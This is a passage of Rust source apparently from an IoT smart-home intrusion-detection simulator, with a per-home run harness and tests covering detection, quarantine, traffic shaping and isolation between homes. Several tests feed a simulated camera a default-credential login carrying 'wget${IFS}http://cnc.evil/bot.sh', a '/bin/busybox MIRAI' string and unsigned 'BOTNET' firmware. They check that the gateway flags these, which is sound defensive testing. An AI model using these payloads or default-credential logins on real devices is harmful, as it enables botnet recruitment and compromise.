    pub evidence_total: usize,
    /// Aggregated evidence per layer: `[device, network, service]`.
    pub evidence_by_layer: [usize; 3],
    /// Warning-or-higher alerts raised so far.
    pub warning_alerts: usize,
    /// Critical alerts raised so far.
    pub critical_alerts: usize,
    /// Packets the gateway has forwarded so far.
    pub forwarded: u64,
    /// Packets the gateway has dropped so far.
    pub dropped_packets: u64,
    /// Wire bytes observed by the runner's tap so far.
    pub wire_bytes: u64,
    /// Packets observed by the runner's tap so far.
    pub packets: u64,
}

/// A reusable run handle over one [`XlfHome`]: owns the home, a traffic
/// tap, and the stepping/summary logic the multi-home experiments and
/// the fleet engine previously wired up ad hoc. Not `Send` (the home's
/// Core is `Rc`-shared) — build and drive it on one thread, then ship
/// the [`HomeReport`] across threads.
pub struct HomeRunner {
    home: XlfHome,
    traffic: Rc<RefCell<TrafficMeter>>,
    probe_cursor: RefCell<ProbeCursor>,
}

/// What the runner's tap keeps of each transmission: exactly the
/// behaviour-feature samples `(seconds, wire size, bound for the cloud)`
/// the report needs, plus the running wire-byte total probes read. No
/// labels, endpoints or protocol tags: homes that score a passive
/// observer install their own [`xlf_simnet::observer::RecordingTap`].
#[derive(Debug, Default)]
struct TrafficMeter {
    samples: Vec<(f64, usize, bool)>,
    wire_bytes: u64,
}

/// Transmissions the meter has room for per device before it grows:
/// about a short (20 s) run of a chatty (3 s telemetry) home, whose
/// every report crosses two links.
const METER_SAMPLES_PER_DEVICE: usize = 16;

/// The runner's tap: meters transmissions into a shared
/// [`TrafficMeter`].
struct MeterTap {
    cloud: NodeId,
    meter: Rc<RefCell<TrafficMeter>>,
}

impl xlf_simnet::observer::Tap for MeterTap {
    fn on_transmit(&mut self, at: SimTime, packet: &Packet, _link: &xlf_simnet::LinkConfig) {
        let mut meter = self.meter.borrow_mut();
        meter
            .samples
            .push((at.as_secs_f64(), packet.wire_size, packet.dst == self.cloud));
        meter.wire_bytes += packet.wire_size as u64;
    }
}

/// Incremental probe counters. The evidence store is append-only, so
/// each probe folds in only the entries added since the previous probe
/// instead of rescanning from the start. Interior-mutable cache only:
/// [`HomeRunner::probe`] still performs no simulation side effects.
#[derive(Debug, Default)]
struct ProbeCursor {
    evidence_seen: usize,
    by_layer: [usize; 3],
}

impl std::fmt::Debug for HomeRunner {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("HomeRunner")
            .field("devices", &self.home.devices.len())
            .field("packets", &self.traffic.borrow().samples.len())
            .finish_non_exhaustive()
    }
}

impl HomeRunner {
    /// Wraps `home`, installing the traffic tap its behaviour features
    /// come from. Install before running: features cover the whole run.
    pub fn new(mut home: XlfHome) -> Self {
        let traffic = Rc::new(RefCell::new(TrafficMeter {
            samples: Vec::with_capacity(METER_SAMPLES_PER_DEVICE * home.devices.len()),
            wire_bytes: 0,
        }));
        home.net.add_tap(Box::new(MeterTap {
            cloud: home.cloud,
            meter: traffic.clone(),
        }));
        HomeRunner {
            home,
            traffic,
            probe_cursor: RefCell::new(ProbeCursor::default()),
        }
    }

    /// Builds a fresh home from a spec and wraps it.
    pub fn build(seed: u64, config: XlfConfig, devices: &[HomeDevice]) -> Self {
        Self::new(XlfHome::build(seed, config, devices))
    }

    /// The wrapped home (e.g. to add attacker nodes before running).
    pub fn home_mut(&mut self) -> &mut XlfHome {
        &mut self.home
    }

    /// The wrapped home, read-only.
    pub fn home(&self) -> &XlfHome {
        &self.home
    }

    /// Steps the simulation to `t`.
    pub fn run_until(&mut self, t: SimTime) {
        self.home.net.run_until(t);
    }

    /// Steps the simulation to `t`, processing at most `budget` events.
    /// Returns `(events_processed, truncated)`; a truncated home keeps
    /// whatever evidence it drained so far and can still be summarized
    /// via [`HomeRunner::finish`] — the fleet tier's degraded mode.
    pub fn run_until_capped(&mut self, t: SimTime, budget: u64) -> (u64, bool) {
        self.home.net.run_until_capped(t, budget)
    }

    /// Reads the cumulative side-effect-free counters (see
    /// [`HomeProbe`]). Safe to call at any point mid-run, any number of
    /// times: it only reads — no drains, no verdict fusion — so it can
    /// never change what the simulation or the final report would do.
    pub fn probe(&self) -> HomeProbe {
        let core = self.home.core.borrow();
        let mut cursor = self.probe_cursor.borrow_mut();
        let evidence = core.store.all();
        for e in &evidence[cursor.evidence_seen..] {
            let idx = match e.layer {
                crate::evidence::Layer::Device => 0,
                crate::evidence::Layer::Network => 1,
                crate::evidence::Layer::Service => 2,
            };
            cursor.by_layer[idx] += 1;
        }
        cursor.evidence_seen = evidence.len();
        let traffic = self.traffic.borrow();
        let gateway = self.home.gateway_ref();
        HomeProbe {
            evidence_total: core.store.len(),
            evidence_by_layer: cursor.by_layer,
            warning_alerts: core.alerts.count_at_least(Severity::Warning),
            critical_alerts: core.alerts.count_at_least(Severity::Critical),
            forwarded: gateway.forwarded,
            dropped_packets: gateway.dropped,
            wire_bytes: traffic.wire_bytes,
            packets: traffic.samples.len() as u64,
        }
    }

    /// Finishes the run at `now`: one final Core evaluation sweep (so
    /// late evidence is fused), then the summary a fleet tier consumes.
    pub fn finish(self, now: SimTime) -> HomeReport {
        self.home.core.borrow_mut().evaluate(now);
        self.report(now)
    }

    /// Summarizes the run so far without consuming the runner (no final
    /// evaluation sweep; call [`XlfCore::evaluate`] yourself if needed).
    pub fn report(&self, now: SimTime) -> HomeReport {
        // Fused verdict per device; the most suspicious one is the
        // home's headline. Iteration is in BTreeMap (name) order, ties
        // keep the first name — deterministic.
        let mut top: Option<&str> = None;
        let mut top_score = 0.0f64;
        for name in self.home.devices.keys() {
            let score = self.home.core.borrow_mut().score_for(name, now);
            if score > top_score || top.is_none() {
                top_score = score;
                top = Some(name);
            }
        }
        let top_device = top.unwrap_or_default().to_string();

        // Read after the verdicts: scoring drains pending evidence into
        // the store first.
        let probe = self.probe();
        let gateway = self.home.gateway_ref();
        let quarantined: Vec<String> = self
            .home
            .devices
            .keys()
            .filter(|name| gateway.nac.is_quarantined(name))
            .map(|name| name.to_string())
            .collect();

        let features =
            xlf_analytics::features::window_features(&self.traffic.borrow().samples).to_vec();

        let core = self.home.core.borrow();
        HomeReport {
            seed: self.home.net.seed(),
            evidence_total: probe.evidence_total,
            evidence_dropped: core.bus.dropped(),
            evidence_shed: core.bus.shed(),
            evidence_by_layer: probe.evidence_by_layer,
            warning_alerts: probe.warning_alerts,
            critical_alerts: probe.critical_alerts,
            quarantined,
            top_device,
            top_score,
            forwarded: probe.forwarded,
            dropped_packets: probe.dropped_packets,
            features,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use xlf_device::Vulnerability;

    fn basic_home(config: XlfConfig) -> XlfHome {
        XlfHome::build(
            7,
            config,
            &[
                HomeDevice::new("thermo", SensorKind::Temperature)
                    .with_telemetry_period(Duration::from_secs(10)),
                HomeDevice::new("cam", SensorKind::Camera)
                    .with_vulns(VulnSet::of(&[Vulnerability::StaticPassword]))
                    .with_telemetry_period(Duration::from_secs(10)),
            ],
        )
    }

    #[test]
    fn benign_home_stays_quiet_under_full_xlf() {
        let mut home = basic_home(XlfConfig::full());
        home.net.run_until(SimTime::from_secs(600));
        let core = home.core.borrow();
        assert!(
            core.alerts.at_least(Severity::Critical).is_empty(),
            "benign traffic must not trigger critical alerts: {:?}",
            core.alerts.alerts()
        );
        assert!(home.gateway_ref().forwarded > 50, "telemetry must flow");
    }

    #[test]
    fn a_re_registered_name_leaves_its_old_node() {
        let core: CoreHandle = Rc::new(RefCell::new(XlfCore::new(
            CorrelationConfig::default(),
            PolicyConfig::default(),
        )));
        let kit = Arc::new(HomeKit::derive(&[]));
        let mut gateway = XlfGateway::new(core, XlfConfig::full(), NodeId::from_raw(0), kit);
        let (old, new) = (NodeId::from_raw(2), NodeId::from_raw(3));
        gateway.register_device("cam", old);
        gateway.register_device("cam", new);
        assert_eq!(gateway.devices.get("cam"), Some(&new));
        assert_eq!(gateway.names.get(&old), None, "the old node is no device");
        assert_eq!(gateway.names.get(&new).map(|n| &**n), Some("cam"));
    }

    #[test]
    fn telemetry_reaches_the_cloud_through_the_gateway() {
        let mut home = basic_home(XlfConfig::full());
        home.net.run_until(SimTime::from_secs(120));
        let cloud = home.net.node_as::<CloudNode>(home.cloud).unwrap().cloud();
        let thermo = cloud.handlers.get("thermo").unwrap();
        assert!(thermo.value("temperature").is_some());
    }

    #[test]
    fn botnet_recruitment_is_detected_and_quarantined() {
        let mut home = basic_home(XlfConfig::full());
        // Let monitors learn the benign baseline.
        home.net.run_until(SimTime::from_secs(180));

        // Attacker on the WAN recruits the weak camera through the
        // gateway: login with default creds carrying a C&C bootstrap.
        struct Recruiter {
            gateway: NodeId,
        }
        impl Node for Recruiter {
            fn on_start(&mut self, ctx: &mut Context<'_>) {
                let (device, user, pass) = (Some("cam".into()), "admin", "admin");
                let body = Body::Login { device, user, pass };
                let payload = b"wget${IFS}http://cnc.evil/bot.sh".to_vec();
                let login = Packet::new(ctx.id(), self.gateway, body, payload);
                ctx.send(self.gateway, login);
            }
        }
        let attacker = home.net.add_node(Box::new(Recruiter {
            gateway: home.gateway,
        }));
        home.net
            .connect(attacker, home.gateway, Medium::Wan.link().with_loss(0.0));
        home.net.run_until(SimTime::from_secs(400));

        let core = home.core.borrow();
        // DPI must have seen the C&C string; the DFA must have seen the
        // compromise transition; correlation must have escalated.
        assert!(
            core.alerts.has_alert("cam", Severity::Warning),
            "alerts: {:?}, evidence: {}",
            core.alerts.alerts(),
            core.store.len()
        );
        drop(core);
        assert!(
            home.gateway_ref().nac.is_quarantined("cam")
                || home
                    .core
                    .borrow()
                    .alerts
                    .has_alert("cam", Severity::Critical),
            "camera should be quarantined or critically flagged"
        );
    }

    /// Sends `payload` from `device` to the gateway as telemetry, the way
    /// the device's own uplink does, and runs the home for a second.
    /// Returns whether the gateway's DPI counted a new match for it.
    fn upstream_hits(home: &mut XlfHome, device: &str, payload: &[u8]) -> bool {
        let matches = |home: &XlfHome| {
            home.gateway_ref()
                .dpi
                .get(device)
                .map_or(0, |m| m.stats.matches)
        };
        let before = matches(home);
        let (node, gateway) = (home.devices[device], home.gateway);
        let body = Body::Telemetry {
            device: device.into(),
            state: "idle",
        };
        let packet = Packet::new(node, gateway, body, payload.to_vec());
        home.net.inject(node, gateway, packet);
        let end = home.net.now() + Duration::from_secs(1);
        home.net.run_until(end);
        matches(home) > before
    }

    #[test]
    fn gateway_dpi_flags_malicious_upstream_payloads() {
        let mut home = basic_home(XlfConfig::full());
        home.net.run_until(SimTime::from_secs(5));
        let payloads: [&[u8]; 4] = [
            b"benign telemetry",
            b"wget${IFS}http://cnc.evil/bot.sh",
            b"",
            b"/bin/busybox MIRAI",
        ];
        let hits = payloads.map(|payload| upstream_hits(&mut home, "cam", payload));
        assert_eq!(hits, [false, true, false, true]);
        assert_eq!(home.gateway_ref().dpi["cam"].stats.matches, 2);
    }

    #[test]
    fn quarantined_devices_cannot_flood() {
        let mut home = basic_home(XlfConfig::full());
        home.net.run_until(SimTime::from_secs(130));
        // Quarantine the camera manually (as policy would).
        home.net
            .node_as_mut::<XlfGateway>(home.gateway)
            .unwrap()
            .nac
            .quarantine("cam");
        let before = home.net.stats().delivered;
        home.net.run_until(SimTime::from_secs(200));
        // Camera telemetry is now dropped at the gateway; only thermo
        // traffic flows to the cloud.
        let gateway = home.gateway_ref();
        assert!(gateway.dropped > 0, "quarantine must drop packets");
        let _ = before;
    }

    #[test]
    fn off_config_forwards_everything_blindly() {
        let mut home = basic_home(XlfConfig::off());
        home.net.run_until(SimTime::from_secs(300));
        let gateway = home.gateway_ref();
        assert_eq!(gateway.dropped, 0);
        assert!(home.core.borrow().store.is_empty());
    }

    #[test]
    fn correlation_results_steer_token_lifetimes() {
        // Benign home: calm lifetime.
        let mut home = basic_home(XlfConfig::full());
        home.net.run_until(SimTime::from_secs(200));
        assert_eq!(
            home.gateway_ref().auth_proxy.token_lifetime,
            Duration::from_secs(3600)
        );
        // Compromise the camera: the next evaluation shortens tokens.
        struct Recruiter {
            gateway: NodeId,
        }
        impl Node for Recruiter {
            fn on_start(&mut self, ctx: &mut Context<'_>) {
                let (device, user, pass) = (Some("cam".into()), "admin", "admin");
                let body = Body::Login { device, user, pass };
                let payload = b"wget${IFS}http://cnc.evil/bot.sh".to_vec();
                let login = Packet::new(ctx.id(), self.gateway, body, payload);
                ctx.send(self.gateway, login);
            }
        }
        let attacker = home.net.add_node(Box::new(Recruiter {
            gateway: home.gateway,
        }));
        home.net
            .connect(attacker, home.gateway, Medium::Wan.link().with_loss(0.0));
        home.net.run_until(SimTime::from_secs(300));
        assert_eq!(
            home.gateway_ref().auth_proxy.token_lifetime,
            Duration::from_secs(300),
            "suspicion must shorten token lifetimes (§IV-A1)"
        );
    }

    #[test]
    fn home_runner_report_summarizes_a_benign_run() {
        let mut runner = HomeRunner::new(basic_home(XlfConfig::full()));
        runner.run_until(SimTime::from_secs(300));
        let report = runner.finish(SimTime::from_secs(300));
        assert_eq!(report.seed, 7);
        assert_eq!(report.critical_alerts, 0);
        assert!(report.quarantined.is_empty());
        assert!(report.forwarded > 50, "telemetry must flow");
        assert!(report.features[0] > 0.0, "tap must have seen traffic");
        assert_eq!(report.evidence_dropped, 0);
        assert_eq!(report.evidence_shed, 0);
    }

    #[test]
    fn bounded_evidence_capacity_reaches_the_home_core_bus() {
        for (asked, held) in [(16, 16), (0, 1)] {
            let config = XlfConfig::full().with_evidence_capacity(Some(asked));
            let home = basic_home(config);
            assert_eq!(home.core.borrow().bus.capacity(), Some(held));
        }
        // The unbounded default is preserved.
        let home = basic_home(XlfConfig::full());
        assert_eq!(home.core.borrow().bus.capacity(), None);
    }

    #[test]
    fn a_tightly_bounded_home_still_runs_and_accounts_its_sheds() {
        // Capacity 1: all but the newest queued observation between Core
        // evaluations is shed; the run completes and the loss is
        // accounted, not silent.
        let config = XlfConfig::full().with_evidence_capacity(Some(1));
        let mut runner = HomeRunner::new(basic_home(config));
        runner.run_until(SimTime::from_secs(300));
        let report = runner.finish(SimTime::from_secs(300));
        assert_eq!(report.evidence_shed, report.evidence_dropped);
        assert!(report.forwarded > 50, "telemetry must still flow");
    }

    #[test]
    fn home_runner_reports_are_deterministic() {
        let run = || {
            let mut runner = HomeRunner::new(basic_home(XlfConfig::full()));
            runner.run_until(SimTime::from_secs(300));
            runner.finish(SimTime::from_secs(300))
        };
        assert_eq!(run(), run());
    }

    #[test]
    fn constant_rate_mode_emits_cover_traffic_for_silent_devices() {
        let mut config = XlfConfig::full();
        config.shaping = crate::shaping::ShapingMode::ConstantRate {
            bucket: 1024,
            max_delay: Duration::from_millis(10),
            cover_interval: Duration::from_secs(5),
        };
        // A very quiet device: telemetry every 10 minutes.
        let mut home = XlfHome::build(
            5,
            config,
            &[HomeDevice::new("quiet-sensor", SensorKind::Temperature)
                .with_telemetry_period(Duration::from_secs(600))],
        );
        let (tap, records) = xlf_simnet::observer::RecordingTap::new();
        home.net.add_tap(Box::new(tap));
        home.net.run_until(SimTime::from_secs(120));
        let covers = records
            .borrow()
            .iter()
            .filter(|r| r.src == home.gateway && r.dst == home.cloud && r.wire_size == 1024)
            .count();
        assert!(
            covers >= 15,
            "silent flows must be covered (~1 per 5 s): got {covers}"
        );
        assert!(home.gateway_ref().shaping_cost().cover_packets > 0);
    }

    fn kit_devices() -> Vec<HomeDevice> {
        vec![
            HomeDevice::new("thermo", SensorKind::Temperature)
                .with_telemetry_period(Duration::from_secs(10)),
            HomeDevice::new("cam", SensorKind::Camera)
                .with_vulns(VulnSet::of(&[
                    Vulnerability::StaticPassword,
                    Vulnerability::UnsignedFirmware,
                ]))
                .with_telemetry_period(Duration::from_secs(10)),
        ]
    }

    /// What a home leaves behind: its report, every transmission, and its
    /// evidence.
    type Trace = (
        HomeReport,
        Vec<xlf_simnet::observer::PacketRecord>,
        Vec<String>,
    );

    fn trace_to(mut home: XlfHome, secs: u64) -> Trace {
        let (tap, records) = xlf_simnet::observer::RecordingTap::new();
        home.net.add_tap(Box::new(tap));
        let mut runner = HomeRunner::new(home);
        let end = SimTime::from_secs(secs);
        runner.run_until(end);
        let core = &runner.home().core;
        core.borrow_mut().drain_pending(usize::MAX);
        let evidence = core
            .borrow()
            .store
            .all()
            .iter()
            .map(|e| format!("{e:?}"))
            .collect();
        let report = runner.finish(end);
        let records = records.take();
        (report, records, evidence)
    }

    /// The kit of [`kit_devices`] with the auto-window app installed.
    fn app_kit() -> Arc<HomeKit> {
        Arc::new(HomeKit::derive(&kit_devices()).with_apps([SmartApp::auto_window()]))
    }

    /// Whether `home` still holds each of the kit's shared tables.
    fn shares_kit_tables(home: &XlfHome, kit: &HomeKit) -> [bool; 4] {
        let gateway = home.gateway_ref();
        let cloud = home.net.node_as::<CloudNode>(home.cloud).unwrap().cloud();
        let capabilities = kit.devices.iter().all(|d| {
            let handler = &cloud.handlers[d.spec.name.as_str()];
            Arc::ptr_eq(&handler.capabilities, &d.capabilities)
        });
        [
            Arc::ptr_eq(gateway.nac.allowlists(), &kit.allowlists),
            Arc::ptr_eq(gateway.vetter.policy(), &kit.vetting),
            cloud.shares_apps(&kit.apps),
            capabilities,
        ]
    }

    /// Whether two homes' devices still share each one's firmware slot,
    /// credentials and store.
    fn share_device_stores(a: &XlfHome, b: &XlfHome, device: &str) -> [bool; 3] {
        let (a, b) = (a.device_ref(device), b.device_ref(device));
        [
            std::ptr::eq(a.firmware(), b.firmware()),
            std::ptr::eq(a.credentials(), b.credentials()),
            std::ptr::eq(a.storage(), b.storage()),
        ]
    }

    #[test]
    fn what_one_home_does_never_reaches_a_sibling_from_the_same_kit() {
        use xlf_device::firmware::{FirmwareImage, Version};
        let kit = app_kit();
        let mut attacked = XlfHome::from_kit(7, XlfConfig::full(), &kit);
        let sibling = XlfHome::from_kit(7, XlfConfig::full(), &kit);
        let idle = XlfHome::from_kit(8, XlfConfig::full(), &kit);
        assert_eq!(shares_kit_tables(&attacked, &kit), [true; 4]);
        assert_eq!(share_device_stores(&attacked, &sibling, "cam"), [true; 3]);
        attacked.net.run_until(SimTime::from_secs(30));

        // DPI hits at the gateway; a default-credential login that takes
        // the camera over; a tampered image the camera (which takes
        // unsigned firmware) installs; then the operator quarantines it,
        // lets it resolve a new name, trusts a new vendor and installs a
        // second app in the cloud.
        let payloads: [&[u8]; 2] = [b"wget${IFS}http://cnc.evil/bot.sh", b"/bin/busybox MIRAI"];
        let hits = payloads.map(|payload| upstream_hits(&mut attacked, "cam", payload));
        assert_eq!(hits, [true, true]);
        let evil = FirmwareImage::unsigned(Version(9, 9, 9), "mallory", b"BOTNET".to_vec());
        let (gw, cam) = (attacked.gateway, attacked.devices["cam"]);
        let (device, user, pass) = (None, "admin", "admin");
        let login = Packet::new(gw, cam, Body::Login { device, user, pass }, Vec::new());
        attacked.net.inject(gw, cam, login);
        let ota = Packet::new(gw, cam, Body::Ota { device: None }, evil.to_bytes());
        attacked.net.inject(gw, cam, ota);
        attacked.net.run_until(SimTime::from_secs(60));
        assert!(attacked.device_ref("cam").is_compromised());
        assert!(attacked
            .device_ref("cam")
            .firmware()
            .payload_contains(b"BOTNET"));
        assert_eq!(attacked.gateway_ref().dpi["cam"].stats.matches, 2);
        let gateway = attacked
            .net
            .node_as_mut::<XlfGateway>(attacked.gateway)
            .unwrap();
        gateway.nac.quarantine("cam");
        gateway.nac.allow_destination("cam", "cnc.evil");
        gateway.vetter.trust_vendor("mallory", b"mallory key");
        let cloud = attacked
            .net
            .node_as_mut::<CloudNode>(attacked.cloud)
            .unwrap();
        cloud.cloud_mut().install_app(SmartApp::auto_window());
        attacked.net.run_until(SimTime::from_secs(90));

        // The attacked home copied every table it wrote and nothing else.
        assert_eq!(
            shares_kit_tables(&attacked, &kit),
            [false, false, false, true]
        );
        let stores = share_device_stores(&attacked, &sibling, "cam");
        assert_eq!(stores, [false, false, true]);
        assert_eq!(
            share_device_stores(&attacked, &sibling, "thermo"),
            [true; 3]
        );

        // The sibling, built before and run after, is untouched: its
        // camera holds the factory image and its tables are the kit's,
        // and it runs exactly like a home that derived its own kit.
        let cam = sibling.device_ref("cam");
        assert_eq!(cam.firmware().installed().version, Version(1, 0, 0));
        assert!(!cam.firmware().payload_contains(b"BOTNET"));
        assert!(!sibling.gateway_ref().nac.is_quarantined("cam"));
        let sibling = trace_to(sibling, 90);
        assert_eq!(sibling.0.evidence_total, 0);
        assert_eq!(
            sibling,
            trace_to(XlfHome::from_kit(7, XlfConfig::full(), &app_kit()), 90)
        );

        // A home that wrote nothing still shares each table.
        let mut idle = idle;
        idle.net.run_until(SimTime::from_secs(90));
        assert_eq!(shares_kit_tables(&idle, &kit), [true; 4]);
        let fresh = XlfHome::from_kit(9, XlfConfig::full(), &kit);
        for device in ["cam", "thermo"] {
            assert_eq!(share_device_stores(&idle, &fresh, device), [true; 3]);
        }
    }

    #[test]
    fn homes_of_one_kit_share_each_device_dpi_session() {
        let kit = Arc::new(HomeKit::derive(&kit_devices()));
        let mut a = XlfHome::from_kit(1, XlfConfig::full(), &kit);
        let mut b = XlfHome::from_kit(2, XlfConfig::full(), &kit);
        let mut own = XlfHome::build(1, XlfConfig::full(), &kit_devices());
        for home in [&mut a, &mut b, &mut own] {
            home.net.run_until(SimTime::from_secs(30));
        }
        let session = |home: &XlfHome| Arc::clone(home.gateway_ref().dpi["cam"].session());
        assert!(Arc::ptr_eq(&session(&a), &session(&b)));
        assert!(!Arc::ptr_eq(&session(&a), &session(&own)));
    }

    #[test]
    fn shaping_pads_upstream_traffic() {
        let mut config = XlfConfig::full();
        config.shaping = ShapingMode::PadOnly { bucket: 1024 };
        let mut home = basic_home(config);
        let (tap, records) = xlf_simnet::observer::RecordingTap::new();
        home.net.add_tap(Box::new(tap));
        home.net.run_until(SimTime::from_secs(120));
        // Gateway→cloud telemetry must all be padded to the bucket.
        let padded: Vec<_> = records
            .borrow()
            .iter()
            .filter(|r| r.src == home.gateway && r.dst == home.cloud)
            .map(|r| r.wire_size)
            .collect();
        assert!(!padded.is_empty());
        assert!(padded.iter().all(|&s| s % 1024 == 0), "sizes: {padded:?}");
        assert!(home.gateway_ref().shaping_cost().padding_bytes > 0);
    }
}
